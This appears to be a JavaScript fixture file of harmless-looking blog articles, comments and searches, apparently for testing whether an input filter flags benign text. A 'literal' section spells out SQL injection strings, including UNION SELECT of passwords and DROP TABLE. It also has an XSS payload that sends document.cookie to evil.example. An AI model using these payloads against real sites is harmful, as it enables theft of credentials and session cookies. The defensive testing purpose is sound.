// What authors, commenters and readers write. None of it attacks anything.
// An article is a title and blocks: ['p', text] (words, with light HTML), ['code', text], ['list', lines], ['quote', text].
const raw = String.raw

export const articles = [
  { title: "Ten SQL queries every analyst should know", tags: 'sql, databases', blocks: [
    ['p', "You don't need much: <strong>SELECT</strong>, <em>WHERE</em> and <code>GROUP BY</code> take you a long way."],
    ['code', "SELECT c.name, COUNT(*) AS orders, SUM(o.total) AS revenue\nFROM customers c\nJOIN orders o ON o.customer_id = c.id\nWHERE o.created_at >= '2026-01-01' AND o.status <> 'cancelled'\nGROUP BY c.name\nHAVING SUM(o.total) > 1000\nORDER BY revenue DESC\nLIMIT 10;"],
    ['p', "The <code>HAVING</code> clause filters groups, the <code>WHERE</code> clause filters rows. If it's slow, add an index:"],
    ['code', "CREATE INDEX idx_orders_customer ON orders (customer_id, created_at);\nEXPLAIN SELECT * FROM orders WHERE customer_id = 42;"]] },
  { title: "UNION or JOIN? When to use which", tags: 'sql', blocks: [
    ['p', "A <code>UNION</code> puts rows below each other, a <code>JOIN</code> puts columns side by side."],
    ['code', "SELECT name, email FROM customers\nUNION ALL\nSELECT name, email FROM suppliers\nORDER BY name;"],
    ['p', "Use <code>UNION ALL</code> unless you want duplicates removed -- it's faster."]] },
  { title: "Cleaning up old rows safely", tags: 'sql, operations', blocks: [
    ['p', "Always try the condition with a SELECT first; then run it in a transaction."],
    ['code', "BEGIN;\nDELETE FROM sessions WHERE expires_at < NOW() - INTERVAL '30 days';\n-- 18234 rows; looks right\nCOMMIT;\n\nUPDATE users SET last_seen = NULL WHERE last_seen < '2020-01-01';\nDROP TABLE IF EXISTS tmp_import;"]] },
  { title: "Semantic HTML in five minutes", tags: 'html', blocks: [
    ['p', "Use <code>&lt;article&gt;</code>, <code>&lt;nav&gt;</code> and <code>&lt;main&gt;</code> instead of endless <code>&lt;div&gt;</code>s."],
    ['code', '<main>\n  <article>\n    <h1>Title</h1>\n    <img src="cat.jpg" alt="A cat" width="300" height="200">\n    <a href="/about?ref=post&lang=en">About us</a>\n  </article>\n</main>'],
    ['p', "Screen readers & search engines thank you."]] },
  { title: "A contact form without a framework", tags: 'html, forms', blocks: [
    ['code', '<form action="/contact" method="post">\n  <label for="mail">E-mail</label>\n  <input type="email" id="mail" name="mail" required>\n  <textarea name="text" rows="6"></textarea>\n  <button type="submit">Send</button>\n</form>'],
    ['p', "That's all. Validate on the server, too."]] },
  { title: "Deploying with a twenty-line shell script", tags: 'shell, linux', blocks: [
    ['p', "Our whole deployment is this script. Run it with <code>./deploy.sh production</code>:"],
    ['code', '#!/bin/bash\nset -euo pipefail\nenv="${1:-staging}"\nrsync -az --delete build/ "deploy@web1:/srv/www/$env/"\nssh deploy@web1 "sudo systemctl reload nginx && tail -n 20 /var/log/nginx/error.log"\necho "done: $(date)"'],
    ['p', "Use <code>cd ../ && ls -la</code> to look around, and <code>rm -rf build/</code> before each build."]] },
  { title: "Installing Node on Debian", tags: 'linux, node', blocks: [
    ['p', "As root, or with sudo:"],
    ['code', 'apt-get update\napt-get install -y curl ca-certificates gnupg\ncurl -fsSL https://deb.example.org/setup_22.x | bash -\napt-get install -y nodejs\nnode --version'],
    ['p', "If you see <em>permission denied</em>, check <code>ls -l /usr/local/bin</code> and <code>cat /etc/apt/sources.list</code>."]] },
  { title: "Find the files that eat your disk", tags: 'linux', blocks: [
    ['code', "du -xh --max-depth=1 / | sort -h | tail -n 15\nfind /var/log -type f -name '*.gz' -mtime +30 -exec rm {} \\;\njournalctl --vacuum-time=7d\nps aux | grep '[n]ginx' | awk '{print $2}' | xargs -r kill -HUP"],
    ['p', "The <code>-exec</code> part runs once per file; <code>+</code> instead of <code>\\;</code> is faster."]] },
  { title: "A custom post type for our theme", tags: 'php, wordpress', blocks: [
    ['p', "Put this into your theme's <code>functions.php</code>:"],
    ['code', "<?php\nfunction shop_register_book() {\n    register_post_type( 'book', array(\n        'labels' => array( 'name' => __( 'Books', 'shop' ) ),\n        'public' => true,\n        'supports' => array( 'title', 'editor', 'thumbnail' ),\n    ) );\n}\nadd_action( 'init', 'shop_register_book' );"],
    ['p', "Then visit Settings → Permalinks once."]] },
  { title: "PHP: reading a CSV file the right way", tags: 'php', blocks: [
    ['code', "<?php\n$rows = [];\nif (($h = fopen('prices.csv', 'r')) !== false) {\n    while (($line = fgetcsv($h, 1000, ';')) !== false) {\n        $rows[] = array_map('trim', $line);\n    }\n    fclose($h);\n}\necho count($rows) . \" rows\\n\";\nprint_r($rows[0] ?? []);"],
    ['p', "Don't use <code>explode(';', $line)</code>: quotes would break it."]] },
  { title: "Prepared statements, please", tags: 'php, security', blocks: [
    ['p', "Never put a request's value into a query by hand. Let the driver do it:"],
    ['code', "$stmt = $pdo->prepare('SELECT id, name FROM users WHERE email = :email AND active = 1');\n$stmt->execute(['email' => $_POST['email']]);\n$user = $stmt->fetch(PDO::FETCH_ASSOC);"],
    ['p', "It's shorter, too, and O'Brien can log in."]] },
  { title: "JavaScript: debounce explained", tags: 'javascript', blocks: [
    ['code', "function debounce(fn, ms = 250) {\n  let timer;\n  return (...args) => {\n    clearTimeout(timer);\n    timer = setTimeout(() => fn.apply(this, args), ms);\n  };\n}\n\ndocument.querySelector('#search').addEventListener('input', debounce(e => {\n  fetch(`/api/search?q=${encodeURIComponent(e.target.value)}`)\n    .then(r => r.json())\n    .then(items => console.log(items.length));\n}));"],
    ['p', "Call it once; the closure keeps <code>timer</code> alive."]] },
  { title: "Template engines compared: Jinja, Liquid, Mustache", tags: 'templates', blocks: [
    ['code', "<ul>\n{% for item in cart.items %}\n  <li>{{ item.title | upper }} – {{ item.price }}</li>\n{% endfor %}\n</ul>"],
    ['p', "In Vue you write <code>{{ user.name }}</code>, in Angular <code>{{ total | currency }}</code>, in ERB <code>&lt;%= user.name %&gt;</code>."]] },
  { title: "nginx as a reverse proxy", tags: 'nginx', blocks: [
    ['code', "server {\n    listen 80;\n    server_name example.com www.example.com;\n    location / {\n        proxy_pass http://127.0.0.1:3000;\n        proxy_set_header Host $host;\n        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    }\n    location ~ /\\.(git|env) { deny all; }\n}"],
    ['p', "Test with <code>nginx -t && systemctl reload nginx</code>, then open http://localhost/ in the browser."]] },
  { title: "Docker Compose for a small shop", tags: 'docker', blocks: [
    ['code', "services:\n  web:\n    image: php:8.2-apache\n    ports: ['8080:80']\n    environment:\n      DB_HOST: db\n      DB_PASSWORD: ${DB_PASSWORD:?not set}\n    volumes:\n      - ./src:/var/www/html\n  db:\n    image: mariadb:10.11\n    command: ['--max-connections=50']"],
    ['p', "Start with <code>docker compose up -d; docker compose logs -f web</code>."]] },
  { title: "Regular expressions I keep forgetting", tags: 'regex', blocks: [
    ['list', [raw`^\s*$ – an empty line`, raw`\b\d{4}-\d{2}-\d{2}\b – a date`, raw`(?<!\\)" – a quote that's not escaped`, raw`https?://[^\s"'<>]+ – a link, more or less`, raw`s/\.\.\//…/g – sed that hides parents`]],
    ['p', "And <code>.*?</code> is not what makes it fast."]] },
  { title: "Python one-liners for log files", tags: 'python', blocks: [
    ['code', "import re, sys, collections\nhits = collections.Counter()\nwith open('/var/log/nginx/access.log') as f:\n    for line in f:\n        m = re.match(r'(\\S+) .*? \"(GET|POST) (\\S+)', line)\n        if m:\n            hits[m.group(3)] += 1\nprint('\\n'.join(f'{n:6} {p}' for p, n in hits.most_common(10)))"],
    ['p', "From the shell: <code>python3 -m http.server 8000</code> or <code>python3 -c \"print(2**64)\"</code>."]] },
  { title: "Git: undo almost anything", tags: 'git', blocks: [
    ['list', ["git commit --amend -m 'better words'", "git reset --soft HEAD~1 && git stash", "git checkout main -- path/to/file; git status", "git log --oneline | head -n 20", "git push --force-with-lease origin feature/x"]],
    ['quote', "“It's not lost until `git gc` says so.” — someone on the team"]] },
  { title: "Java records & streams", tags: 'java', blocks: [
    ['code', "record Book(String title, int year) {}\n\nList<String> titles = books.stream()\n    .filter(b -> b.year() > 2000 && !b.title().isBlank())\n    .sorted(Comparator.comparing(Book::year))\n    .map(Book::title)\n    .collect(Collectors.toList());\nSystem.out.println(titles);"],
    ['p', "Spring users: <code>@Value(\"${app.name}\")</code> still works."]] },
  { title: "Budget 2026: where the 50% went", tags: 'news', blocks: [
    ['p', "Sales & marketing got more, R&D less (about 12% -> 9%). We'd said: \"spend <= 100k or ask\". That didn't happen; see table 1=1st quarter."],
    ['list', ["Q1: 1,200 € (=100%)", "Q2: 900 € or -25%", "Q3: >1,000 €; <1,100 €", "Q4: ???"]],
    ['quote', "Select the best, drop the rest, and order by priority."]] },
  { title: "Recipe: O'Leary's soda bread", tags: 'food', blocks: [
    ['p', "It's 450g flour, 1 tsp salt; 1 tsp soda; 400ml buttermilk. Don't knead! Bake at 200°C (gas 6) – 40'."],
    ['list', ["Mix dry things; make a well", "Pour in the milk – all at once", "Cut a cross ('to let the fairies out')", "Bake, then cool on a rack"]],
    ['p', "Union of flavours: join us on Sunday, where we select from 5 jams. <strong>I &lt;3 bread</strong> :-)"]] },
  { title: "LaTeX in the browser", tags: 'math', blocks: [
    ['p', raw`With MathJax, \(\sum_{i=1}^{n} x_i \le \frac{a}{b}\) just works, and so does $E = mc^2$ or $$\int_0^1 f(x)\,dx$$.`],
    ['code', raw`\documentclass{article}
\usepackage{amsmath}
\begin{document}
\input{chapters/intro}
$\{x \in \mathbb{R} : x > 0\}$
\end{document}`]] },
  { title: "CSS grid cheat sheet", tags: 'css', blocks: [
    ['code', ".page {\n  display: grid;\n  grid-template: 'head head' auto 'nav main' 1fr / 200px 1fr;\n  background: url(\"/img/paper.png\") repeat;\n}\n@media (max-width: 40em) { .page { display: block; } }\na::after { content: '\\00bb'; }"],
    ['p', "Inline: <code>style=\"color: red; width: 50%\"</code>."]] },
  { title: "Environment variables in PowerShell and cmd", tags: 'windows', blocks: [
    ['code', "$env:PATH -split ';' | Where-Object { Test-Path $_ }\nGet-ChildItem -Recurse -Filter *.log | Remove-Item -WhatIf\nset PATH=%PATH%;C:\\Tools\ncopy C:\\Users\\me\\file.txt D:\\backup\\"],
    ['p', "In PowerShell it's <code>Get-Content .\\notes.txt | Select-String error</code>."]] },
  { title: "REST with curl", tags: 'api', blocks: [
    ['code', "curl -s -X POST https://api.example.com/v1/orders \\\n  -H 'Content-Type: application/json' \\\n  -H \"Authorization: Bearer $TOKEN\" \\\n  -d '{\"item\": 12, \"qty\": 1, \"filter\": {\"price\": {\"$gt\": 5}}}' | jq '.id'"],
    ['p', "The answer: <code>{\"id\": \"a1\", \"ok\": true, \"links\": [\"/v1/orders/a1\"]}</code>"]] },
  { title: "XML isn't dead", tags: 'xml', blocks: [
    ['code', "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<catalog xmlns:xi=\"http://www.w3.org/2001/XInclude\">\n  <book id=\"b1\"><title>Tea &amp; cake</title><price currency=\"EUR\">9.50</price></book>\n</catalog>"],
    ['p', "XPath: <code>//book[price > 5]/title</code> – and it's a standard."]] },
]

// Articles that spell out attacks: on their own, these bytes are an attack; only the application knows that they are
// an author's text. See docs/user/applications.md for the exceptions.
export const literal = [
  { title: "How SQL injection works", tags: 'security', blocks: [
    ['p', "Type <code>' OR 1=1 --</code> as the name and the query becomes:"],
    ['code', "SELECT * FROM users WHERE name = '' OR 1=1 -- ' AND password = 'x'"],
    ['p', "Worse: <code>1; DROP TABLE users</code> or <code>' UNION SELECT name, password FROM users --</code>."]] },
  { title: "Cross-site scripting for beginners", tags: 'security', blocks: [
    ['p', "If a comment may contain this, your readers' cookies are gone:"],
    ['code', "<script>new Image().src = 'https://evil.example/?c=' + document.cookie</script>\n<img src=x onerror=alert(1)>"]] },
]

export const comments = [
  "Great post, thanks!", "I don't agree: it's <b>not</b> that simple.", "Works for me, but only with `ORDER BY id`.",
  "What about O'Reilly's book? It says the same (p. 42; ch. 3).", "5 > 3 && 3 < 5, isn't it? ;-)", "I <3 this!",
  "Could you select a different colour from the list? Or drop the table at the end.", "1=1 is always true, so why write it?",
  "See https://example.com/a?b=1&c=2#top and http://www.example.org/~joe/index.php?page=about", "ls -la shows nothing... cat works, though",
  "Typo: \"recieve\" -> \"receive\"; also 'then' -> 'than'.", "Where can I get it? Union Street, or from the shop?",
  "+1 -- came here to say this", "Use `git rebase -i HEAD~3`; then push --force", "Je l'ai essayé, ça marche ! C'est « super » — merci d'avance",
  "Größe: 5'11\" / 180 cm; Gewicht: 75 kg (= 165 lb)", "{{ double braces }} don't render in my theme", "$100 or 100$? And what's ${HOME}?",
  "Is `WHERE deleted = 0 AND id IN (1, 2, 3)` faster?", "a && b || c; if (x) { y(); }", "Path is C:\\Users\\me\\Documents\\..\\Desktop", "Look in ../images/ or /var/www/html/wp-content",
  "<em>Emphasis</em> and <a href=\"https://example.net/x\" rel=\"nofollow\">a link</a>", "What does `if [ -f notes.txt ]` do?",
  "Have you tried turning it off & on again?", "日本語のコメントもできますか?「はい」;いいえ", "Привет! Всё работает; спасибо -- Иван", "#1 is better than #2 (IMHO) /* no offence */",
  "select * from my_heart where you = 'here' <3", "Having a group by the river, order by phone, limit 10 people; insert coins into the slot.",
  "sleep(8) hours a night and you'll be fine", "x' = 2x + 1, y'' = 0", "It prints \"hello world\" | then stops", "The <div> isn't closed in line 3", "My config: `proxy_pass http://localhost:3000;`",
  "Why not `SELECT COUNT(*) FROM posts`?", "rm -rf node_modules && npm install fixed it for me", "I'd do `document.getElementById('x').innerHTML = ''`.",
  `I've tried "SELECT name FROM users WHERE id = 5" and it works. But not with LIKE 'O%' - why?`, "Did you mean SELECT name FROM users WHERE id = 5?",
  "console.log('works'); // finally", "The end -- or is it? /* to be continued */",
]

export const searches = [
  'bread', "o'leary", 'select a plan', 'union or join', 'how to drop a table', 'c++ vs c#', '1=1', 'a; b', 'price > 100 and price < 200', '"exact phrase"',
  '50% off', 'rock & roll', '<div> tag', 'C:\\temp', '$HOME/bin', 'order by date', 'what is "select * from"', "don't panic", 'what is /etc/fstab',
  'group by having count', 'ls command options', 'name:admin', '(a or b) and not c', 'Größe', 'naïve café', '日本', 'foo|bar', 'user@example.com', 'http://example.com/',
  '../images', "it's 5 o'clock", 'R&D', 'a=b', '{{name}}', '#hashtag', 'insert into table', 'delete from list', 'update and set', "'quoted' or not",
  '-- dash dash', 'if then else', 'or', 'and', 'null', 'where 1', '10.0.0.1', '/wp-admin/', 'robots.txt', 'x\' y',
]

export const literalComments = [
  "1=1 is always true, so 'or 1=1' makes no sense to me ;)", 'What does `if [ -f /etc/hosts ]; then cat /etc/hosts; fi` print?',
  'cat /dev/null is my mood', 'rm -rf my_weekend', 'ping 10.0.0.5 works; ssh -p 2222 ed@10.0.0.5 says "Connection refused"',
  'echo "hello world" | wc -c', "I'd strip <script>alert(1)</script> from comments",
]
export const literalSearches = ['bash if -z "$var"', 'ls -la meaning', '/etc/hosts windows', 'sleep(8)', 'cat /etc/fstab', 'ls -la', "' or 1=1 --", '<script>']

export const html = block => {
  const esc = s => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')
  const [kind, v] = block
  if (kind === 'code') return `<pre><code>${esc(v)}</code></pre>`
  if (kind === 'list') return `<ul>${v.map(x => `<li>${esc(x)}</li>`).join('\n')}</ul>`
  if (kind === 'quote') return `<blockquote>${esc(v)}</blockquote>`
  return `<p>${v}</p>`
}
